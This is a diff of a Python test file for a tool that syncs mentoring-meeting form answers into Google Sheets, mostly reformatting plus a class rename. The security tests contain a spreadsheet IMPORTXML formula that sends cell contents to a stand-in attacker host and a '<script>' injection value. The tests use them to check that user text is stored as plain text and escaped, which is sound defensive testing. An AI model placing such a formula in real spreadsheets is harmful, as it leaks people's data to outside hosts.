@@ -1,4 +1,6 @@
-"""The main job, end to end, through the real client libraries and the form's page."""
+"""The main job, end to end, through the real client libraries and the form's
+page.
+"""
 
 from __future__ import annotations
 
@@ -13,16 +15,26 @@ import pytest
 
 from forms.form_shapes import MEETING_LOG
 from sync.admin.add_pairs import add
-from sync.admin.plan import Deed, Plan
-from sync.errors import Busy, ConfigurationError, GoogleError, Refused, SyncError
+from sync.admin.plan import Deed, ProvisionPlan
+from sync.errors import (
+    Busy,
+    ConfigurationError,
+    GoogleError,
+    Refused,
+    SyncError,
+)
 from sync.google.drive import FOLDER, FORM, SHEET
 from templates.formulas import skeleton
 from templates.wire import serial
 from tests.conftest import ADMIN, COORDINATOR, TODAY, Program, prepared
 
 
-def test_an_answer_becomes_a_line_in_log_and_a_status(program: Program) -> None:
-    """A mentor logs a meeting on the page; the run counts it and writes it down."""
+def test_an_answer_becomes_a_line_in_log_and_a_status(
+    program: Program,
+) -> None:
+    """A mentor logs a meeting on the page; the run counts it and writes it
+    down.
+    """
     said = program.log(
         "ana@westbrook.example",
         "WES-1 Ana & Sam",
@@ -33,7 +45,9 @@ def test_an_answer_becomes_a_line_in_log_and_a_status(program: Program) -> None:
     assert "recorded" in said
     result, calls = program.run()
     assert (len(result.new), result.counted, result.changed) == (1, 1, {"WES"})
-    assert calls["sheets.write"] == 2, "the district's sheet, and the program's"
+    assert calls["sheets.write"] == 2, (
+        "the district's sheet, and the program's"
+    )
     assert program.row("log", "WES-1", "pair") | {"Code": ""} == {
         **dict.fromkeys(program.values("log")[0], ""),
         "When": serial(date(2026, 11, 19)),
@@ -54,8 +68,8 @@ def test_an_answer_becomes_a_line_in_log_and_a_status(program: Program) -> None:
 
 
 def test_a_second_run_writes_nothing(program: Program) -> None:
-    """Law 2, for runs: also on a fresh state, which learns from the sheet what stands
-    there.
+    """Law 2, for runs: also on a fresh state, which learns from the sheet what
+    stands there.
     """
     program.log(
         "ana@westbrook.example",
@@ -75,12 +89,16 @@ def test_a_second_run_writes_nothing(program: Program) -> None:
     ) == (set(), 0, 0, 0)
     program.state_file.unlink()
     cold, calls = program.run()
-    assert (cold.changed, calls["sheets.write"], len(cold.new)) == (set(), 0, 1)
+    assert (cold.changed, calls["sheets.write"], len(cold.new)) == (
+        set(),
+        0,
+        1,
+    )
 
 
 def test_a_second_provision_writes_nothing(unprovisioned: Program) -> None:
-    """Law 2, for provision: right after the first, and after runs and people have been
-    at work.
+    """Law 2, for provision: right after the first, and after runs and people
+    have been at work.
     """
     program = unprovisioned
     first, _ = program.provision()
@@ -92,7 +110,9 @@ def test_a_second_provision_writes_nothing(unprovisioned: Program) -> None:
             _a_day_of_work(program)
         again, calls = program.provision()
         assert (again.of(Deed.MAKE), again.of(Deed.MEND)) == ([], [])
-        assert sum(n for kind, n in calls.items() if kind.endswith("write")) == 0
+        assert (
+            sum(n for kind, n in calls.items() if kind.endswith("write")) == 0
+        )
 
 
 def _a_day_of_work(program: Program) -> None:
@@ -120,7 +140,9 @@ def _a_day_of_work(program: Program) -> None:
         {
             "sortRange": {
                 "range": area,
-                "sortSpecs": [{"dimensionIndex": 1, "sortOrder": "DESCENDING"}],
+                "sortSpecs": [
+                    {"dimensionIndex": 1, "sortOrder": "DESCENDING"}
+                ],
             }
         },
         who=ADMIN,
@@ -145,10 +167,13 @@ def _a_day_of_work(program: Program) -> None:
 
 
 def peoples_cells(program: Program) -> dict[str, list[list[str]]]:
-    """Every cell of the people's tabs as entered; a formula without its references,
-    which Google moves along.
+    """Every cell of the people's tabs as entered; a formula without its
+    references, which Google moves along.
     """
-    tabs = {t.key: program.values(t.key, formulas=True) for t in program.layout.people}
+    tabs = {
+        t.key: program.values(t.key, formulas=True)
+        for t in program.layout.people
+    }
     return {
         key: [[skeleton(str(c)) for c in row] for row in grid]
         for key, grid in tabs.items()
@@ -156,8 +181,8 @@ def peoples_cells(program: Program) -> dict[str, list[list[str]]]:
 
 
 def test_no_run_changes_a_peoples_tab(program: Program) -> None:
-    """Law 4: whatever people typed, also between runs, every cell of theirs is as they
-    left it.
+    """Law 4: whatever people typed, also between runs, every cell of theirs is
+    as they left it.
     """
     program.type("follow_up", 2, "agreed", "call on Friday")
     program.type("pairs", 5, "mentor", "Half A Pair")
@@ -179,8 +204,8 @@ EVIL = '=IMPORTXML("http://evil.example/?"&A1,"//x")'
 
 
 def test_text_from_strangers_is_stored_as_text(program: Program) -> None:
-    """Law 5: formulas in a name, a code, a group or an address run nowhere and are
-    shown as typed.
+    """Law 5: formulas in a name, a code, a group or an address run nowhere and
+    are shown as typed.
     """
     program.type("pairs", 5, "mentor", EVIL)
     program.type("pairs", 5, "mentee", "+1+1")
@@ -211,9 +236,13 @@ def test_text_from_strangers_is_stored_as_text(program: Program) -> None:
                 if place < len(line)
             ]
             assert all("formulaValue" not in c for c in cells)
-    assert program.row("status", "WES-4", "pair")["Pair"] == f"WES-4 {EVIL} & +1+1"
+    assert (
+        program.row("status", "WES-4", "pair")["Pair"]
+        == f"WES-4 {EVIL} & +1+1"
+    )
     assert any(
-        EVIL in str(c) for c in program.values("log")[1] + program.values("log")[2]
+        EVIL in str(c)
+        for c in program.values("log")[1] + program.values("log")[2]
     )
 
 
@@ -221,7 +250,9 @@ def program_cell(
     program: Program, sheet_id: int, line: list[Any], place: int
 ) -> dict[str, Any]:
     """The stored cell behind a value that was read."""
-    tab = program.space.desk.shelf.get(program.lock.sheets["WES"].id).tab(sheet_id)
+    tab = program.space.desk.shelf.get(program.lock.sheets["WES"].id).tab(
+        sheet_id
+    )
     for row in tab.rows.values():
         entered = row.get(place, {}).get("userEnteredValue", {})
         if line[place] in entered.values():
@@ -239,7 +270,9 @@ def test_a_pages_text_is_escaped(program: Program) -> None:
         cookies={"identity": ADMIN},
         timeout=30,
     )
-    link = program.lock.responder_uri + "?usp=pp_url&entry.705691649=%3Cscript%3E"
+    link = (
+        program.lock.responder_uri + "?usp=pp_url&entry.705691649=%3Cscript%3E"
+    )
     form = requests.get(link, cookies={"identity": ADMIN}, timeout=30)
     assert "&lt;script&gt;alert" in page.text
     assert "<script>" not in page.text + form.text, (
@@ -247,7 +280,7 @@ def test_a_pages_text_is_escaped(program: Program) -> None:
     )
 
 
-# -- the guard rails -------------------------------------------------------------------
+# -- the guard rails ----------------------------------------------------------
 
 
 def everybody_met(program: Program) -> None:
@@ -272,11 +305,14 @@ def questions(program: Program) -> str:
 
 def names(program: Program) -> dict[int, str]:
     return {
-        p.pair.number: p.pair.mentor.name for p in program.run()[0].standings[0].pairs
+        p.pair.number: p.pair.mentor.name
+        for p in program.run()[0].standings[0].pairs
     }
 
 
-def test_a_new_pair_typed_over_an_old_one_is_asked_about(busy: Program) -> None:
+def test_a_new_pair_typed_over_an_old_one_is_asked_about(
+    busy: Program,
+) -> None:
     busy.type("pairs", 3, "mentor", "New Mentor")
     busy.type("pairs", 3, "mentee", "New Mentee")
     assert (
@@ -303,12 +339,16 @@ def test_a_half_sorted_table_is_not_believed(busy: Program) -> None:
         "startColumnIndex": 1,
         "endColumnIndex": 5,
     }
-    busy.edit({"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 2}]}})
+    busy.edit(
+        {"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 2}]}}
+    )
     before = {1: "Ana Diaz", 2: "Grace Okafor", 3: "Mei Novak"}
     assert names(busy) == before
     assert "was half the table sorted?" in questions(busy)
     area |= {"startColumnIndex": 1}
-    busy.edit({"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 1}]}})
+    busy.edit(
+        {"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 1}]}}
+    )
     assert (names(busy), questions(busy)) == (before, "")
 
 
@@ -324,17 +364,27 @@ def test_a_wholly_sorted_table_is_fine(busy: Program) -> None:
         {
             "sortRange": {
                 "range": area,
-                "sortSpecs": [{"dimensionIndex": 1, "sortOrder": "DESCENDING"}],
+                "sortSpecs": [
+                    {"dimensionIndex": 1, "sortOrder": "DESCENDING"}
+                ],
             }
         },
         who=ADMIN,
     )
     assert (names(busy)[1], questions(busy)) == ("Ana Diaz", "")
-    assert busy.row("pairs", "Ana Diaz", "mentor")["Pair"] == "WES-1 Ana Diaz & Sam Lee"
+    assert (
+        busy.row("pairs", "Ana Diaz", "mentor")["Pair"]
+        == "WES-1 Ana Diaz & Sam Lee"
+    )
 
 
 def test_a_deleted_row_stays_listed(busy: Program) -> None:
-    rows = {"sheetId": 103, "dimension": "ROWS", "startIndex": 2, "endIndex": 3}
+    rows = {
+        "sheetId": 103,
+        "dimension": "ROWS",
+        "startIndex": 2,
+        "endIndex": 3,
+    }
     busy.edit({"deleteDimension": {"range": rows}}, who=ADMIN)
     assert (
         "WES-2 Grace Okafor & Luis Silva: the row is missing from Pairs"
@@ -368,10 +418,17 @@ def test_a_copied_row_is_asked_about(busy: Program) -> None:
     assert names(busy)[2] == "Grace Okafor"
 
 
-def test_a_renamed_header_is_accepted_and_a_missing_one_is_named(busy: Program) -> None:
+def test_a_renamed_header_is_accepted_and_a_missing_one_is_named(
+    busy: Program,
+) -> None:
     busy.type("pairs", 1, "mentor", "Coach", who=ADMIN)
     assert (questions(busy), names(busy)[1]) == ("", "Ana Diaz")
-    columns = {"sheetId": 103, "dimension": "COLUMNS", "startIndex": 2, "endIndex": 3}
+    columns = {
+        "sheetId": 103,
+        "dimension": "COLUMNS",
+        "startIndex": 2,
+        "endIndex": 3,
+    }
     busy.edit({"deleteDimension": {"range": columns}}, who=ADMIN)
     assert "the column “Mentee” is missing" in questions(busy)
     assert "the column “Mentor” is missing" in questions(busy), (
@@ -384,14 +441,20 @@ def test_a_deleted_tab_is_named_and_printed_again(busy: Program) -> None:
     busy.edit({"deleteSheet": {"sheetId": 106}}, who=ADMIN)
     assert "the tab Calendar: it was deleted" in questions(busy)
     done, _ = busy.provision()
-    assert "Westbrook: the tab Calendar was printed again" in done.of(Deed.MEND)
+    assert "Westbrook: the tab Calendar was printed again" in done.of(
+        Deed.MEND
+    )
     assert questions(busy) == ""
     assert busy.provision()[0].of(Deed.MEND) == []
 
 
-def test_a_deleted_schedule_comes_back_with_what_was_planned(busy: Program) -> None:
+def test_a_deleted_schedule_comes_back_with_what_was_planned(
+    busy: Program,
+) -> None:
     cell = {
-        "rows": [{"values": [{"userEnteredValue": {"stringValue": "Tue 2:45"}}]}],
+        "rows": [
+            {"values": [{"userEnteredValue": {"stringValue": "Tue 2:45"}}]}
+        ],
         "fields": "userEnteredValue",
     }
     busy.edit(
@@ -408,7 +471,9 @@ def test_a_deleted_schedule_comes_back_with_what_was_planned(busy: Program) -> N
     assert busy.values("schedule")[9][3] == "Tue 2:45"
 
 
-def test_a_coordinator_cannot_write_where_the_tool_writes(busy: Program) -> None:
+def test_a_coordinator_cannot_write_where_the_tool_writes(
+    busy: Program,
+) -> None:
     for tab, column in (
         ("status", "status"),
         ("pairs", "number"),
@@ -419,7 +484,9 @@ def test_a_coordinator_cannot_write_where_the_tool_writes(busy: Program) -> None
             busy.type(tab, 6, column, "mine")
 
 
-def test_lost_formulas_headers_and_protection_are_mended(busy: Program) -> None:
+def test_lost_formulas_headers_and_protection_are_mended(
+    busy: Program,
+) -> None:
     for row, column in ((4, "label"), (1, "school")):
         busy.type("pairs", row, column, "", who=ADMIN)
     busy.edit({"deleteProtectedRange": {"protectedRangeId": 10300}}, who=ADMIN)
@@ -435,10 +502,12 @@ def test_lost_formulas_headers_and_protection_are_mended(busy: Program) -> None:
     )
 
 
-# -- files and accounts ----------------------------------------------------------------
+# -- files and accounts -------------------------------------------------------
 
 
-def test_what_was_provisioned_and_cannot_be_seen_is_refused(program: Program) -> None:
+def test_what_was_provisioned_and_cannot_be_seen_is_refused(
+    program: Program,
+) -> None:
     """A listed id that is gone is never replaced by a new creation."""
     lock = program.lock
     lock.form = "1" + "x" * 43
@@ -452,7 +521,11 @@ def test_a_lost_lock_file_finds_everything_again(program: Program) -> None:
     before = program.lock
     program.settings.lock_path.unlink()
     done, calls = program.provision()
-    assert (done.of(Deed.MAKE), calls["drive.write"], calls["sheets.write"]) == (
+    assert (
+        done.of(Deed.MAKE),
+        calls["drive.write"],
+        calls["sheets.write"],
+    ) == (
         [],
         0,
         0,
@@ -477,12 +550,16 @@ def test_new_pairs_take_the_next_free_numbers_once(
         program.row("pairs", "Zoë", "mentor")["Pair"]
         == "WES-4 Zoë Brennan & João Costa"
     )
-    assert program.run()[0].standings[0].district.pairs[3].starts == date(2026, 9, 14)
+    assert program.run()[0].standings[0].district.pairs[3].starts == date(
+        2026, 9, 14
+    )
 
 
-def test_a_roster_file_with_mistakes_makes_nothing(unprovisioned: Program) -> None:
-    """Every mistake is named with file, line, value and remedy before anything is sent
-    to Google.
+def test_a_roster_file_with_mistakes_makes_nothing(
+    unprovisioned: Program,
+) -> None:
+    """Every mistake is named with file, line, value and remedy before anything
+    is sent to Google.
     """
     program = unprovisioned
     (program.folder / "rosters" / "WES.csv").write_text(
@@ -500,12 +577,14 @@ def test_a_roster_file_with_mistakes_makes_nothing(unprovisioned: Program) -> No
         "line 5: Ana and Sam stand in line 2 already",
     ):
         assert words in said
-    assert program.space.store.db.execute("SELECT count(*) FROM files").fetchone() == (
-        0,
-    )
+    assert program.space.store.db.execute(
+        "SELECT count(*) FROM files"
+    ).fetchone() == (0,)
 
 
-def test_an_answer_of_no_district_is_kept_in_sight(unprovisioned: Program) -> None:
+def test_an_answer_of_no_district_is_kept_in_sight(
+    unprovisioned: Program,
+) -> None:
     program = unprovisioned
     folder = program.folder
     rows = (folder / "districts.csv").read_text(encoding="utf-8")
@@ -513,10 +592,18 @@ def test_an_answer_of_no_district_is_kept_in_sight(unprovisioned: Program) -> No
     (folder / "districts.csv").write_text(rows + second, encoding="utf-8")
     program.provision()
     program.log(
-        "who@else.example", "XYZ-3", kind="one-on-one", day="2026-11-19", minutes=30
+        "who@else.example",
+        "XYZ-3",
+        kind="one-on-one",
+        day="2026-11-19",
+        minutes=30,
     )
     program.log(
-        "ana@westbrook.example", "", kind="one-on-one", day="2026-11-19", minutes=30
+        "ana@westbrook.example",
+        "",
+        kind="one-on-one",
+        day="2026-11-19",
+        minutes=30,
     )
     result, _ = program.run()
     assert [a.pair_text for a in result.unplaced] == ["XYZ-3"]
@@ -525,7 +612,9 @@ def test_an_answer_of_no_district_is_kept_in_sight(unprovisioned: Program) -> No
 
 
 def test_a_sheet_that_is_gone_fails_alone(program: Program) -> None:
-    """One district's trouble is named; it is the only one here, so the command says it."""
+    """One district's trouble is named; it is the only one here, so the command
+    says it.
+    """
     lock = program.lock
     lock.sheets["WES"] = replace(lock.sheets["WES"], id="1" + "y" * 43)
     lock.save(program.settings.lock_path)
@@ -533,9 +622,11 @@ def test_a_sheet_that_is_gone_fails_alone(program: Program) -> None:
         program.run()
 
 
-def test_a_write_whose_answer_was_lost_is_not_repeated(program: Program) -> None:
-    """Every batch is applied and its answer lost: what stands in the sheet is looked
-    up, and nothing is doubled.
+def test_a_write_whose_answer_was_lost_is_not_repeated(
+    program: Program,
+) -> None:
+    """Every batch is applied and its answer lost: what stands in the sheet is
+    looked up, and nothing is doubled.
     """
     program.log(
         "ana@westbrook.example",
@@ -558,7 +649,9 @@ def test_a_write_whose_answer_was_lost_is_not_repeated(program: Program) -> None
     program.space.methods["sheets.spreadsheets.batchUpdate"] = applied
     result, calls = program.run()
     assert (result.changed, calls["sheets.write"]) == (set(), 0)
-    assert [row[2] for row in program.values("log")[1:]] == ["WES-1 Ana Diaz & Sam Lee"]
+    assert [row[2] for row in program.values("log")[1:]] == [
+        "WES-1 Ana Diaz & Sam Lee"
+    ]
 
 
 def test_the_log_grows_by_what_is_new(program: Program) -> None:
@@ -625,15 +718,20 @@ def column(program: Program, tab: str, key: str) -> dict[str, Any]:
 def test_a_tab_that_lost_a_column_keeps_its_last_answer_until_it_is_mended(
     busy: Program, tab: str, key: str
 ) -> None:
-    """Nothing is judged by half a tab: what it said before holds, the column is named,
-    and provision puts it back.
+    """Nothing is judged by half a tab: what it said before holds, the column
+    is named, and provision puts it back.
     """
     busy.type("calendar", 60, "event", "early release")
     busy.type("calendar", 60, "first", serial(date(2026, 12, 2)))
     before = busy.run()[0].standings[0]
-    busy.edit({"deleteDimension": {"range": column(busy, tab, key)}}, who=ADMIN)
+    busy.edit(
+        {"deleteDimension": {"range": column(busy, tab, key)}}, who=ADMIN
+    )
     after = busy.run()[0].standings[0]
-    assert "is missing, so what this tab said before still holds" in after.questions[0]
+    assert (
+        "is missing, so what this tab said before still holds"
+        in after.questions[0]
+    )
     assert (after.district.rules, after.district.calendar, after.pairs) == (
         before.district.rules,
         before.district.calendar,
@@ -648,19 +746,29 @@ def test_a_tab_that_lost_a_column_keeps_its_last_answer_until_it_is_mended(
     assert busy.run()[0].standings[0].questions == ()
 
 
-def test_provision_never_writes_into_a_column_of_somebodys_own(busy: Program) -> None:
-    """Their own notes, moved columns and the cells of the blank schedule are as they
-    were.
+def test_provision_never_writes_into_a_column_of_somebodys_own(
+    busy: Program,
+) -> None:
+    """Their own notes, moved columns and the cells of the blank schedule are
+    as they were.
     """
     pairs, schedule = busy.layout.tab("pairs"), busy.layout.tab("schedule")
     cell = {
-        "rows": [{"values": [{"userEnteredValue": {"stringValue": "Tue 2:45"}}]}],
+        "rows": [
+            {"values": [{"userEnteredValue": {"stringValue": "Tue 2:45"}}]}
+        ],
         "fields": "userEnteredValue",
     }
     busy.edit(
         {
             "updateCells": cell
-            | {"start": {"sheetId": schedule.id, "rowIndex": 6, "columnIndex": 2}}
+            | {
+                "start": {
+                    "sheetId": schedule.id,
+                    "rowIndex": 6,
+                    "columnIndex": 2,
+                }
+            }
         }
     )
     notes = {"sheetId": pairs.id, "dimension": "COLUMNS", "length": 1}
@@ -676,7 +784,13 @@ def test_provision_never_writes_into_a_column_of_somebodys_own(busy: Program) ->
         {"appendDimension": notes},
         {
             "updateCells": text
-            | {"start": {"sheetId": pairs.id, "rowIndex": 0, "columnIndex": end}}
+            | {
+                "start": {
+                    "sheetId": pairs.id,
+                    "rowIndex": 0,
+                    "columnIndex": end,
+                }
+            }
         },
         {"deleteDimension": {"range": column(busy, "pairs", "link")}},
         {
@@ -688,9 +802,15 @@ def test_provision_never_writes_into_a_column_of_somebodys_own(busy: Program) ->
         who=ADMIN,
     )
     busy.provision()
-    assert [row[-1] for row in busy.values("pairs")[:2]] == ["My notes", "mine"]
+    assert [row[-1] for row in busy.values("pairs")[:2]] == [
+        "My notes",
+        "mine",
+    ]
     assert any("Tue 2:45" in row for row in busy.values("schedule"))
-    assert busy.row("pairs", "Ana Diaz", "mentor")["Their link"] == "log a meeting"
+    assert (
+        busy.row("pairs", "Ana Diaz", "mentor")["Their link"]
+        == "log a meeting"
+    )
     assert busy.provision()[0].of(Deed.MEND) == []
 
 
@@ -714,8 +834,8 @@ def test_a_row_above_the_headers_changes_nothing(busy: Program) -> None:
 
 
 def test_more_pairs_than_were_printed(unprovisioned: Program) -> None:
-    """A roster longer than `pairs` is printed whole, and a second run still writes
-    nothing.
+    """A roster longer than `pairs` is printed whole, and a second run still
+    writes nothing.
     """
     lines = [f"Mentor {n},Mentee {n}," for n in range(70)]
     path = unprovisioned.folder / "rosters" / "WES.csv"
@@ -731,7 +851,8 @@ def test_more_pairs_than_were_printed(unprovisioned: Program) -> None:
     ]
     assert unprovisioned.run()[0].changed == set()
     path.write_text(
-        "Mentor,Mentee,Number\nAna,Sam,3\nBea,Ivo,3\nCy,Di,2.5\n", encoding="utf-8"
+        "Mentor,Mentee,Number\nAna,Sam,3\nBea,Ivo,3\nCy,Di,2.5\n",
+        encoding="utf-8",
     )
     with pytest.raises(
         ConfigurationError,
@@ -743,8 +864,8 @@ def test_more_pairs_than_were_printed(unprovisioned: Program) -> None:
 def test_killed_after_every_call_provision_doubles_nothing(
     unprovisioned: Program, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Law 3, for provision: stopped after each single call and begun again, it makes
-    everything once.
+    """Law 3, for provision: stopped after each single call and begun again, it
+    makes everything once.
     """
     from sync.google.calls import Pace
 
@@ -780,16 +901,21 @@ def test_killed_after_every_call_provision_doubles_nothing(
         (FORM, 3),
         (SHEET, 3),
     ]
-    assert store.execute("SELECT count(*) FROM permissions").fetchone() == (4,), (
-        "three forms and a coordinator"
+    assert store.execute("SELECT count(*) FROM permissions").fetchone() == (
+        4,
+    ), "three forms and a coordinator"
+    assert unprovisioned.provision()[0] == ProvisionPlan(
+        lock=unprovisioned.lock
     )
-    assert unprovisioned.provision()[0] == Plan(lock=unprovisioned.lock)
-    assert len(unprovisioned.google().forms.get(unprovisioned.lock.form)["items"]) == 20
+    assert (
+        len(unprovisioned.google().forms.get(unprovisioned.lock.form)["items"])
+        == 20
+    )
 
 
 def test_status_tells_and_takes_nothing(busy: Program) -> None:
-    """What `status` saw is still new for the run, and a run of one district leaves the
-    others' answers new.
+    """What `status` saw is still new for the run, and a run of one district
+    leaves the others' answers new.
     """
     busy.log(
         "ana@westbrook.example",
@@ -805,8 +931,8 @@ def test_status_tells_and_takes_nothing(busy: Program) -> None:
 def test_an_unreadable_answer_is_told_every_time_until_it_can_be_read(
     busy: Program,
 ) -> None:
-    """An option renamed without `was`: the answer waits, and counts once the old
-    wording is known.
+    """An option renamed without `was`: the answer waits, and counts once the
+    old wording is known.
     """
     busy.log(
         "ana@westbrook.example",
@@ -833,46 +959,61 @@ def test_an_unreadable_answer_is_told_every_time_until_it_can_be_read(
 
 
 def test_late_and_deleted_answers_are_found_once_a_day(busy: Program) -> None:
-    """An answer that came to light late is read the next day, and one deleted in the
-    form is forgotten.
+    """An answer that came to light late is read the next day, and one deleted
+    in the form is forgotten.
     """
     store = busy.space.store.db
     store.execute(
         "UPDATE responses SET submitted = '2026-11-01T00:00:00.000000Z' WHERE answers LIKE '%WES-2%'"
     )
     busy.state_file.unlink()
-    store.execute("UPDATE responses SET form = 'hidden' WHERE answers LIKE '%WES-2%'")
+    store.execute(
+        "UPDATE responses SET form = 'hidden' WHERE answers LIKE '%WES-2%'"
+    )
     busy.run()
     store.execute(
-        "UPDATE responses SET form = ? WHERE form = 'hidden'", (busy.lock.form,)
+        "UPDATE responses SET form = ? WHERE form = 'hidden'",
+        (busy.lock.form,),
     )
     assert busy.run()[0].new == []
     result, _ = busy.run(TODAY + timedelta(days=1))
     assert len(result.new) == 1
     store.execute("DELETE FROM responses WHERE answers LIKE '%WES-3%'")
-    assert len(busy.run(TODAY + timedelta(days=2))[0].standings[0].outcomes) == 2
+    assert (
+        len(busy.run(TODAY + timedelta(days=2))[0].standings[0].outcomes) == 2
+    )
 
 
 def test_an_answer_follows_its_district(busy: Program) -> None:
-    """Where an answer belongs is decided by what is known now, not by what was known
-    when it came.
+    """Where an answer belongs is decided by what is known now, not by what was
+    known when it came.
     """
     busy.log(
-        "who@else.example", "NOR-1", kind="one-on-one", day="2026-11-18", minutes=30
+        "who@else.example",
+        "NOR-1",
+        kind="one-on-one",
+        day="2026-11-18",
+        minutes=30,
     )
     assert len(busy.run()[0].standings[0].outcomes) == 4
     path = busy.folder / "districts.csv"
     second = "NOR,Northfield,,2026-08-31,2027-06-18,monthly,\n"
-    path.write_text(path.read_text(encoding="utf-8") + second, encoding="utf-8")
+    path.write_text(
+        path.read_text(encoding="utf-8") + second, encoding="utf-8"
+    )
     result, _ = busy.run()
     assert [len(s.outcomes) for s in result.standings] == [3]
     assert "Northfield has no sheet yet" in str(result.failed["NOR"])
 
 
-def test_a_coordinator_who_was_taken_off_the_list_is_named(program: Program) -> None:
+def test_a_coordinator_who_was_taken_off_the_list_is_named(
+    program: Program,
+) -> None:
     path = program.folder / "districts.csv"
     path.write_text(
-        path.read_text(encoding="utf-8").replace("coordinator@westbrook.example", ""),
+        path.read_text(encoding="utf-8").replace(
+            "coordinator@westbrook.example", ""
+        ),
         encoding="utf-8",
     )
     assert (
@@ -881,9 +1022,11 @@ def test_a_coordinator_who_was_taken_off_the_list_is_named(program: Program) -> 
     )
 
 
-def test_a_program_of_an_earlier_version_is_mended_by_provision(busy: Program) -> None:
-    """Without the columns and tabs that came later: a run asks for `provision`, which
-    adds them; nothing is lost or doubled.
+def test_a_program_of_an_earlier_version_is_mended_by_provision(
+    busy: Program,
+) -> None:
+    """Without the columns and tabs that came later: a run asks for
+    `provision`, which adds them; nothing is lost or doubled.
     """
     busy.log(
         "ana@westbrook.example",
@@ -893,7 +1036,9 @@ def test_a_program_of_an_earlier_version_is_mended_by_provision(busy: Program) -
         minutes=30,
     )
     busy.run()
-    before = {tab: busy.values(tab) for tab in ("status", "log", "pairs", "schedule")}
+    before = {
+        tab: busy.values(tab) for tab in ("status", "log", "pairs", "schedule")
+    }
     layout, requests = busy.layout, list[dict[str, Any]]()
     for tab, keys in (
         ("status", ["plan"]),
@@ -930,7 +1075,9 @@ def test_a_program_of_an_earlier_version_is_mended_by_provision(busy: Program) -
         "endColumnIndex": 1,
     }
     pattern = {
-        "userEnteredFormat": {"numberFormat": {"type": "NUMBER", "pattern": "0.##"}}
+        "userEnteredFormat": {
+            "numberFormat": {"type": "NUMBER", "pattern": "0.##"}
+        }
     }
     follow_up = {
         "sheetId": 107,
@@ -977,7 +1124,9 @@ def test_a_program_of_an_earlier_version_is_mended_by_provision(busy: Program) -
     assert busy.provision()[0].of(Deed.MEND) == []
     shown = (
         busy.google()
-        .sheets.look(busy.lock.sheets["WES"].id, {"pairs": pairs.id}, "FORMATTED_VALUE")
+        .sheets.look(
+            busy.lock.sheets["WES"].id, {"pairs": pairs.id}, "FORMATTED_VALUE"
+        )
         .grids["pairs"]
     )
     assert [row[0] for row in shown[1:4]] == ["1", "2", "3"]
